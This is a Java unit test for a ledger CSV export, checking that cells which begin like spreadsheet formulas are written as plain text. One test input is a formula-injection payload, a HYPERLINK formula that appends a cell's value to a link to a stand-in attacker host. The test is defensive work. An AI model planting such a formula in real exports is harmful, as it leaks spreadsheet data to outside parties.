package io.resolutionledger.query.auditing;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** No cell of the CSV export can run as a spreadsheet formula. */
class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+49 30 1234", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"})
    void a_cell_that_starts_like_a_formula_is_written_as_text(String cell) {
        String written = LedgerExport.quote(cell);
        String unquoted = written.startsWith("\"") ? written.substring(1, written.length() - 1).replace("\"\"", "\"")
                : written;
        assertThat(unquoted).isEqualTo("'" + cell);
    }

    @Test
    void other_cells_are_unchanged() {
        assertThat(LedgerExport.quote("Digitale Teilhabe")).isEqualTo("Digitale Teilhabe");
        assertThat(LedgerExport.quote("{\"a\":1}")).isEqualTo("\"{\"\"a\"\":1}\"");
        assertThat(LedgerExport.quote("DE-BY")).isEqualTo("DE-BY");
        assertThat(LedgerExport.quote(42L)).isEqualTo("42");
        assertThat(LedgerExport.quote(null)).isEmpty();
        assertThat(LedgerExport.quote("")).isEmpty();
    }
}
